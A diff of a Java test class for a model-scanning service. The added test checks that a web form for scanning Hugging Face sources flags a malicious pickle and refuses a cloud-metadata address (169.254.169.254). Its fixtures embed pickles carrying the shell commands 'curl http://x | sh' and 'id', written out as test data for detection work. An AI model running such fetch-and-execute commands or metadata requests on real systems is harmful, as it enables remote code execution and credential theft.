@@ -33,6 +33,7 @@ class RemoteSourceTest {
     tmp = Files.createTempDirectory("modelvet-remote");
     hub = new HubTestServer();
     hub.repo("acme/evil", COMMIT, false).add("model.pkl", Fixtures.maliciousPickle("curl http://x | sh")).add("weights.safetensors", Fixtures.safetensors(64, 1));
+    hub.repo("acme/webform", COMMIT, false).add("model.pkl", Fixtures.maliciousPickle("id"));
     hub.repo("acme/private", "89abcdef0123456789abcdef0123456789abcdef", true).add("weights.safetensors", Fixtures.safetensors(8, 2));
     Path tokenFile = Files.writeString(tmp.resolve("hf-token"), HubTestServer.TOKEN + "\n");
     ServeCommand cmd = new ServeCommand();
@@ -74,6 +75,26 @@ class RemoteSourceTest {
     JsonNode again = client.await("/api/scans/", web.json().path("id").asText(), submitter, 60);
     assertThat(again.path("model").asText()).isEqualTo("hf://acme/evil");
     assertThat(client.get("/api/history?model=hf://acme/evil", submitter).json().path("scans")).hasSize(2);
+  }
+
+  @Test
+  void theUploadPageOffersASourceFormWhoseScanIsShownLikeAnUpload() throws Exception {
+    String session = client.signIn(submitter);
+    Client.Response page = client.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(client.base() + "/upload")).header("Cookie", session).GET().build());
+    assertThat(page.body()).contains("id=\"source-form\"").contains("action=\"/scan-source\"");
+    String csrf = Client.hiddenCsrf(page.body());
+    assertThat(client.postForm("/scan-source", session, "source=hf%3A%2F%2Facme%2Fwebform").status()).as("no token").isEqualTo(403);
+    Client.Response r = client.postForm("/scan-source", session, "_csrf=" + csrf + "&source=hf%3A%2F%2Facme%2Fwebform&model=");
+    assertThat(r.status()).as(r.body()).isEqualTo(303);
+    String location = r.raw().headers().firstValue("Location").orElseThrow();
+    JsonNode done = client.await("/api/scans/", location.substring("/scans/".length()), submitter, 60);
+    assertThat(done.path("verdict").asText()).isEqualTo("fail");
+    String scan = client.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(client.base() + location)).header("Cookie", session).GET().build()).body();
+    assertThat(scan).contains("hf://acme/webform@" + COMMIT + "/model.pkl").contains("pickle.denied-callable");
+    // refused sources come back as a page with the reason, and queue nothing
+    Client.Response refused = client.postForm("/scan-source", session, "_csrf=" + csrf + "&source=https%3A%2F%2F169.254.169.254%2Flatest");
+    assertThat(refused.status()).isEqualTo(400);
+    assertThat(refused.body()).contains("--remote-host");
   }
 
   @Test
